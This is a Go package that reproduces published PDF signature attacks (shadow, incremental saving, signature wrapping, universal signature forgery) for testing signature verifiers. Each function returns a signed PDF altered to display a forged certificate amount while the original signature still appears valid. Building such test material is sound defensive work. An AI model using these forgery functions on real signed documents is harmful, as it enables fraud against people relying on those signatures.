// Package attack builds the published attacks on signed PDFs (PDF-Insecurity: Mainka,
// Mladenov, Rohlmann, Schwenk et al., "1 Trillion Dollar Refund" 2019 and "Shadow Attacks"
// 2021) from a signed file, for tests of verifiers: each function returns the attacked
// bytes, which viewers show as forged while the original signature's bytes stay unchanged.
//
//   - Shadow attacks append an unsigned incremental update: ShadowHide draws a white
//     overlay over the page from a signature widget that is never signed; ShadowReplace
//     redefines a signed object (the page's content) in the update, dressed with /FT /Sig so
//     a verifier that trusts declared types lets it pass; HideAndReplace needs a document
//     prepared before signing (Prepare adds an unreferenced alternative catalog, page tree
//     and page) and an update that only points the trailer's /Root at it.
//   - The incremental saving attack (ISA) appends changed objects with no signature:
//     ISABodyOnly with no cross-reference section or %%EOF, ISANoEOF with one but no %%EOF.
//   - Signature wrapping (SWA) moves the second signed range to the end of the file and puts
//     a new /ByteRange, forged objects and a cross-reference section in the enlarged gap.
//   - Universal signature forgery (USF) adds a second "signature" whose value cannot be
//     checked: no /ByteRange, a null one, an empty /Contents, or no /Contents.
//
// Hand-written on purpose: the point is malformed or deceptive structure that no PDF
// library writes. pdfcpu only reads the input.
package attack

import (
	"bytes"
	"fmt"
	"regexp"
	"strconv"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"
)

// Forged is the text the attacks draw: the amount a signed registration certificate
// would state differently.
const Forged = "Von kinh doanh: 930.000.000"

type doc struct {
	in       []byte
	ctx      *model.Context
	root     types.IndirectRef
	info     *types.IndirectRef
	catalog  types.Dict
	page     types.Dict
	pageRef  types.IndirectRef
	box      [4]float64
	next     int   // next free object number
	prevXref int64 // offset of the last cross-reference section
}

func read(in []byte) (*doc, error) {
	conf := model.NewDefaultConfiguration()
	conf.ValidationMode = model.ValidationRelaxed
	ctx, err := api.ReadContext(bytes.NewReader(in), conf)
	if err != nil {
		return nil, err
	}
	d := &doc{in: in, ctx: ctx, root: *ctx.Root, info: ctx.Info, next: *ctx.Size}
	if d.catalog, err = ctx.Catalog(); err != nil {
		return nil, err
	}
	if err := ctx.EnsurePageCount(); err != nil {
		return nil, err
	}
	page, ref, inh, err := ctx.PageDict(1, false)
	if err != nil || ref == nil {
		return nil, fmt.Errorf("page 1: %v", err)
	}
	d.page, d.pageRef = page, *ref
	d.box = [4]float64{0, 0, 595, 842}
	if inh != nil && inh.MediaBox != nil {
		r := inh.MediaBox
		d.box = [4]float64{r.LL.X, r.LL.Y, r.UR.X, r.UR.Y}
	}
	m := regexp.MustCompile(`startxref\s+(\d+)`).FindAllSubmatch(in, -1)
	if len(m) == 0 {
		return nil, fmt.Errorf("no startxref")
	}
	d.prevXref, _ = strconv.ParseInt(string(m[len(m)-1][1]), 10, 64)
	return d, nil
}

// update is an incremental update being written with a classic cross-reference table.
type update struct {
	d    *doc
	base int64
	b    bytes.Buffer
	offs map[int]int64
	root types.IndirectRef
}

func (d *doc) update() *update {
	u := &update{d: d, base: int64(len(d.in)), offs: map[int]int64{}, root: d.root}
	if !bytes.HasSuffix(d.in, []byte("\n")) {
		u.b.WriteByte('\n')
	}
	return u
}

func (u *update) alloc() int { u.d.next++; return u.d.next - 1 }

func (u *update) object(n int, body string) {
	u.offs[n] = u.base + int64(u.b.Len())
	fmt.Fprintf(&u.b, "%d 0 obj\n%s\nendobj\n", n, body)
}

func (u *update) stream(n int, dict string, data []byte) {
	u.object(n, fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data))
}

// xref writes the cross-reference table and trailer; eof adds the %%EOF line.
func (u *update) xref(eof bool) []byte {
	xrefAt := u.base + int64(u.b.Len())
	u.b.WriteString("xref\n")
	nums := make([]int, 0, len(u.offs))
	for n := range u.offs {
		nums = append(nums, n)
	}
	sortInts(nums)
	if len(nums) == 0 {
		u.b.WriteString("0 1\n0000000000 65535 f\r\n")
	}
	for _, n := range nums {
		fmt.Fprintf(&u.b, "%d 1\n%010d 00000 n\r\n", n, u.offs[n])
	}
	info := ""
	if u.d.info != nil {
		info = " /Info " + u.d.info.PDFString()
	}
	fmt.Fprintf(&u.b, "trailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n", u.d.next, u.root.PDFString(), info, u.d.prevXref, xrefAt)
	if eof {
		u.b.WriteString("%%EOF\n")
	}
	return append(bytes.Clone(u.d.in), u.b.Bytes()...)
}

func sortInts(a []int) {
	for i := 1; i < len(a); i++ {
		for j := i; j > 0 && a[j] < a[j-1]; j-- {
			a[j], a[j-1] = a[j-1], a[j]
		}
	}
}

// overlay is the content drawn over the page: white over everything, then the forged text
// in Helvetica.
func overlay(box [4]float64) []byte {
	w, h := box[2]-box[0], box[3]-box[1]
	return fmt.Appendf(nil, "q 1 1 1 rg 0 0 %.0f %.0f re f Q BT /F1 24 Tf 0 g 72 %.0f Td (%s) Tj ET", w, h, h-122, Forged)
}

// withField adds the widget ref to page 1's /Annots and the form's /Fields, writing the
// page and the AcroForm (or the catalog when the AcroForm is direct).
func (u *update) withField(widget int) error {
	d := u.d
	ref := *types.NewIndirectRef(widget, 0)
	page := d.page.Clone().(types.Dict)
	annots, _ := d.ctx.DereferenceArray(page["Annots"])
	page.Update("Annots", append(append(types.Array{}, annots...), ref))
	u.object(d.pageRef.ObjectNumber.Value(), page.PDFString())

	cat := d.catalog.Clone().(types.Dict)
	af := types.Dict{}
	afRef, indirect := cat["AcroForm"].(types.IndirectRef)
	if o := cat["AcroForm"]; o != nil {
		if x, err := d.ctx.DereferenceDict(o); err == nil && x != nil {
			af = x.Clone().(types.Dict)
		}
	}
	fields, _ := d.ctx.DereferenceArray(af["Fields"])
	af.Update("Fields", append(append(types.Array{}, fields...), ref))
	af.Update("SigFlags", types.Integer(3))
	if indirect {
		u.object(afRef.ObjectNumber.Value(), af.PDFString())
		return nil
	}
	cat.Update("AcroForm", af)
	u.object(d.root.ObjectNumber.Value(), cat.PDFString())
	return nil
}

// ShadowHide appends an unsigned update with a signature widget (/FT /Sig, no value) whose
// appearance covers page 1 in white and prints Forged.
func ShadowHide(signed []byte) ([]byte, error) {
	d, err := read(signed)
	if err != nil {
		return nil, err
	}
	u := d.update()
	font, ap, widget := u.alloc(), u.alloc(), u.alloc()
	u.object(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	w, h := d.box[2]-d.box[0], d.box[3]-d.box[1]
	u.stream(ap, fmt.Sprintf("/Type /XObject /Subtype /Form /BBox [0 0 %.0f %.0f] /Resources << /Font << /F1 %d 0 R >> >>", w, h, font), overlay(d.box))
	u.object(widget, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature-shadow) /Rect [%.0f %.0f %.0f %.0f] /F 4 /P %s /AP << /N %d 0 R >> >>",
		d.box[0], d.box[1], d.box[2], d.box[3], d.pageRef.PDFString(), ap))
	if err := u.withField(widget); err != nil {
		return nil, err
	}
	return u.xref(true), nil
}

// contentRef returns the first content stream of page 1.
func (d *doc) contentRef() (types.IndirectRef, error) {
	switch c := d.page["Contents"].(type) {
	case types.IndirectRef:
		if arr, err := d.ctx.DereferenceArray(c); err == nil && len(arr) > 0 {
			if r, ok := arr[0].(types.IndirectRef); ok {
				return r, nil
			}
		}
		return c, nil
	case types.Array:
		if len(c) > 0 {
			if r, ok := c[0].(types.IndirectRef); ok {
				return r, nil
			}
		}
	}
	return types.IndirectRef{}, fmt.Errorf("page 1 has no content stream")
}

// readContent reads the file and the reference of page 1's first content stream.
func readContent(b []byte) (*doc, types.IndirectRef, error) {
	d, err := read(b)
	if err != nil {
		return nil, types.IndirectRef{}, err
	}
	ref, err := d.contentRef()
	return d, ref, err
}

// pageFont returns the name of a font in page 1's resources, "" if none.
func (d *doc) pageFont() string {
	res, _ := d.ctx.DereferenceDict(d.page["Resources"])
	fonts, _ := d.ctx.DereferenceDict(res["Font"])
	for k := range fonts {
		return k
	}
	return ""
}

// ShadowReplace appends an unsigned update that redefines page 1's first content stream
// (same object number): the page is whited out and, when the page has a font, Forged is
// written. The stream dictionary carries /FT /Sig and /Type /Sig, which viewers ignore.
func ShadowReplace(signed []byte) ([]byte, error) {
	d, ref, err := readContent(signed)
	if err != nil {
		return nil, err
	}
	w, h := d.box[2]-d.box[0], d.box[3]-d.box[1]
	data := fmt.Appendf(nil, "q 1 1 1 rg 0 0 %.0f %.0f re f Q", w, h)
	if f := d.pageFont(); f != "" {
		data = fmt.Appendf(data, " BT /%s 24 Tf 0 g 72 %.0f Td (%s) Tj ET", f, h-122, Forged)
	}
	u := d.update()
	u.stream(ref.ObjectNumber.Value(), "/Type /Sig /FT /Sig", data)
	return u.xref(true), nil
}

// Prepare is the first half of the hide-and-replace attack, done before the victim signs:
// it appends an update with an alternative catalog (a copy of the real one whose /Pages is
// an alternative page tree), that tree and a copy of page 1 whose content is Forged, none
// of them referenced (the form becomes an object both catalogs share). It returns the new file and the alternative catalog's number, for
// Reveal.
func Prepare(unsigned []byte) ([]byte, int, error) {
	d, err := read(unsigned)
	if err != nil {
		return nil, 0, err
	}
	u := d.update()
	cat, pages, page, content, font := u.alloc(), u.alloc(), u.alloc(), u.alloc(), u.alloc()
	u.object(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	u.stream(content, "", overlay(d.box))
	p := types.Dict{"Type": types.Name("Page"), "Parent": *types.NewIndirectRef(pages, 0),
		"MediaBox":  types.NewNumberArray(d.box[0], d.box[1], d.box[2], d.box[3]),
		"Resources": types.Dict{"Font": types.Dict{"F1": *types.NewIndirectRef(font, 0)}},
		"Contents":  *types.NewIndirectRef(content, 0)}
	u.object(page, p.PDFString())
	u.object(pages, fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", page))
	real := d.catalog.Clone().(types.Dict)
	if _, indirect := real["AcroForm"].(types.IndirectRef); !indirect {
		// The signer will write its field into the form: make the form an object both
		// catalogs share, so the alternative view still shows the signatures.
		af := types.Dict{"Fields": types.Array{}}
		if x, err := d.ctx.DereferenceDict(real["AcroForm"]); err == nil && x != nil {
			af = x.Clone().(types.Dict)
		}
		n := u.alloc()
		u.object(n, af.PDFString())
		real.Update("AcroForm", *types.NewIndirectRef(n, 0))
		u.object(d.root.ObjectNumber.Value(), real.PDFString())
	}
	c := real.Clone().(types.Dict)
	c.Update("Pages", *types.NewIndirectRef(pages, 0))
	u.object(cat, c.PDFString())
	// Not referenced: the real trailer keeps the real catalog.
	return u.xref(true), cat, nil
}

// Reveal is the second half of hide-and-replace: an update with no object at all, only a
// cross-reference section whose trailer's /Root is the alternative catalog Prepare made.
// Every object a viewer then shows was in the signed revision.
func Reveal(signed []byte, altCatalog int) ([]byte, error) {
	d, err := read(signed)
	if err != nil {
		return nil, err
	}
	u := d.update()
	u.root = *types.NewIndirectRef(altCatalog, 0)
	return u.xref(true), nil
}

// ISABodyOnly appends a redefinition of page 1's first content stream (Forged over white)
// with no cross-reference section, trailer or %%EOF: readers that rebuild a damaged file
// from its objects show it.
func ISABodyOnly(signed []byte) ([]byte, error) {
	u, err := redefineContent(signed)
	if err != nil {
		return nil, err
	}
	return append(bytes.Clone(u.d.in), u.b.Bytes()...), nil
}

// ISANoEOF appends the same redefinition with a cross-reference section and trailer but no
// %%EOF.
func ISANoEOF(signed []byte) ([]byte, error) {
	u, err := redefineContent(signed)
	if err != nil {
		return nil, err
	}
	return u.xref(false), nil
}

// redefineContent starts an update that redefines page 1's first content stream.
func redefineContent(signed []byte) (*update, error) {
	d, ref, err := readContent(signed)
	if err != nil {
		return nil, err
	}
	u := d.update()
	u.stream(ref.ObjectNumber.Value(), "", overlay(d.box))
	return u, nil
}

// FormPDF is a one-page A4 PDF showing text in Helvetica, with a cross-reference table and
// an (empty) AcroForm of its own object, as a document to sign and attack.
func FormPDF(text string) []byte {
	content := fmt.Sprintf("BT /F1 24 Tf 72 720 Td (%s) Tj ET", text)
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content),
		"<< /Fields [] >>",
	}
	b := []byte("%PDF-1.7\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = len(b)
		b = fmt.Appendf(b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := len(b)
	b = fmt.Appendf(b, "xref\n0 %d\n0000000000 65535 f\r\n", len(objs)+1)
	for _, o := range offs {
		b = fmt.Appendf(b, "%010d 00000 n\r\n", o)
	}
	return fmt.Appendf(b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
}

// SWA is signature wrapping on the last signature of a file it covers entirely: the second
// signed range is moved to the end of the file and the gap after /Contents gets a second
// /ByteRange naming the moved range, then a redefined page 1 content stream (Forged) and a
// cross-reference section at the offset the moved range's startxref names, so a reader
// following it finds the forged objects. The signed bytes are unchanged.
func SWA(signed []byte) ([]byte, error) {
	d, ref, err := readContent(signed)
	if err != nil {
		return nil, err
	}
	brs := regexp.MustCompile(`/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]`).FindAllSubmatchIndex(signed, -1)
	if len(brs) == 0 {
		return nil, fmt.Errorf("no /ByteRange")
	}
	m := brs[len(brs)-1]
	atoi := func(i int) int64 { v, _ := strconv.ParseInt(string(signed[m[i]:m[i+1]]), 10, 64); return v }
	a, b, c := atoi(2), atoi(4), atoi(6)
	if b+c != int64(len(signed)) {
		return nil, fmt.Errorf("the last signature does not cover the file")
	}
	contents := signed[a:b] // "<hex>"
	part2 := signed[b:]
	// The moved range's startxref names the last cross-reference section's offset.
	xm := regexp.MustCompile(`startxref\s+(\d+)`).FindAllSubmatch(part2, -1)
	origXref, _ := strconv.ParseInt(string(xm[len(xm)-1][1]), 10, 64)

	var out bytes.Buffer
	out.Write(signed[:a])
	out.Write(contents)
	// Placeholder for the second /ByteRange: fixed width, filled in below.
	brAt := out.Len()
	out.WriteString(" /ByteRange [0 0000000000 0000000000 0000000000] >>\nendobj\n")
	content := overlay(d.box)
	objAt := out.Len()
	fmt.Fprintf(&out, "%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n", ref.ObjectNumber.Value(), len(content), content)
	if int64(out.Len()) > origXref {
		return nil, fmt.Errorf("no room before offset %d", origXref)
	}
	// Pad with a comment up to the cross-reference offset the moved startxref names.
	pad := int(origXref) - out.Len()
	if pad > 0 {
		if pad >= 2 {
			out.WriteString("%" + string(bytes.Repeat([]byte{' '}, pad-2)) + "\n")
		} else {
			out.WriteString("\n")
		}
	}
	entries, prev, err := classicXref(signed, origXref)
	if err != nil {
		return nil, err
	}
	// Offsets are fixed width, so the section's length does not depend on the shift.
	xrefLen := len(xrefSection(entries, prev, ref.ObjectNumber.Value(), int64(objAt), b, 0, d))
	moved := int64(out.Len()) + int64(xrefLen) + 2
	out.WriteString(xrefSection(entries, prev, ref.ObjectNumber.Value(), int64(objAt), b, moved-b, d))
	// Wrap the moved range in a stream nobody references, ending the gap on a '>'.
	out.WriteString("%>")
	if int64(out.Len()) != moved {
		return nil, fmt.Errorf("layout: %d != %d", out.Len(), moved)
	}
	out.Write(part2)
	res := out.Bytes()
	copy(res[brAt:], fmt.Sprintf(" /ByteRange [0 %010d %010d %010d] >>", a, moved, c))
	return res, nil
}

// classicXref parses the cross-reference table at off: object number to offset, and /Prev.
func classicXref(b []byte, off int64) (map[int]int64, int64, error) {
	if !bytes.HasPrefix(b[off:], []byte("xref")) {
		return nil, 0, fmt.Errorf("no cross-reference table at %d (xref streams are not handled)", off)
	}
	end := bytes.Index(b[off:], []byte("trailer"))
	if end < 0 {
		return nil, 0, fmt.Errorf("no trailer")
	}
	lines := bytes.Fields(b[off+4 : off+int64(end)])
	out := map[int]int64{}
	for i := 0; i+1 < len(lines); {
		first, _ := strconv.Atoi(string(lines[i]))
		count, _ := strconv.Atoi(string(lines[i+1]))
		i += 2
		for k := 0; k < count && i+2 < len(lines)+1; k++ {
			o, _ := strconv.ParseInt(string(lines[i]), 10, 64)
			if string(lines[i+2]) == "n" {
				out[first+k] = o
			}
			i += 3
		}
	}
	pm := regexp.MustCompile(`/Prev\s+(\d+)`).FindSubmatch(b[off+int64(end):])
	var prev int64
	if pm != nil {
		prev, _ = strconv.ParseInt(string(pm[1]), 10, 64)
	}
	return out, prev, nil
}

// xrefSection writes a table of entries (offsets at or after from shifted by delta), with
// object forged at forgedAt, and its trailer.
func xrefSection(entries map[int]int64, prev int64, forged int, forgedAt, from, delta int64, d *doc) string {
	var sb bytes.Buffer
	sb.WriteString("xref\n")
	nums := []int{forged}
	for n := range entries {
		if n != forged {
			nums = append(nums, n)
		}
	}
	sortInts(nums)
	for _, n := range nums {
		o := forgedAt
		if n != forged {
			o = entries[n]
			if o >= from {
				o += delta
			}
		}
		fmt.Fprintf(&sb, "%d 1\n%010d 00000 n\r\n", n, o)
	}
	info := ""
	if d.info != nil {
		info = " /Info " + d.info.PDFString()
	}
	fmt.Fprintf(&sb, "trailer\n<< /Size %d /Root %s%s /Prev %d >>\n", d.next, d.root.PDFString(), info, prev)
	return sb.String()
}

// USF variants: what the forged signature's value holds.
const (
	USFNoByteRange   = "no /ByteRange"
	USFNullByteRange = "/ByteRange null"
	USFEmptyContents = "empty /Contents"
	USFNoContents    = "no /Contents"
)

// USF appends an unsigned update with a second, visible "signature" by "Nguyen Van Gia"
// whose value is the given variant, and whose appearance shows Forged.
func USF(signed []byte, variant string) ([]byte, error) {
	d, err := read(signed)
	if err != nil {
		return nil, err
	}
	u := d.update()
	font, ap, sig, widget := u.alloc(), u.alloc(), u.alloc(), u.alloc()
	u.object(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	w, h := d.box[2]-d.box[0], d.box[3]-d.box[1]
	u.stream(ap, fmt.Sprintf("/Type /XObject /Subtype /Form /BBox [0 0 %.0f %.0f] /Resources << /Font << /F1 %d 0 R >> >>", w, h, font), overlay(d.box))
	size := int64(len(d.in)) + 1<<20
	body := "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (Nguyen Van Gia) /M (D:20260101000000+07'00')"
	switch variant {
	case USFNoByteRange:
		body += " /Contents <3082>"
	case USFNullByteRange:
		body += " /ByteRange null /Contents <3082>"
	case USFEmptyContents:
		body += fmt.Sprintf(" /ByteRange [0 10 20 %d] /Contents <>", size-20)
	case USFNoContents:
		body += fmt.Sprintf(" /ByteRange [0 10 20 %d]", size-20)
	default:
		return nil, fmt.Errorf("unknown USF variant %q", variant)
	}
	u.object(sig, body+" >>")
	u.object(widget, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature-usf) /V %d 0 R /Rect [%.0f %.0f %.0f %.0f] /F 4 /P %s /AP << /N %d 0 R >> >>",
		sig, d.box[0], d.box[1], d.box[2], d.box[3], d.pageRef.PDFString(), ap))
	if err := u.withField(widget); err != nil {
		return nil, err
	}
	return u.xref(true), nil
}
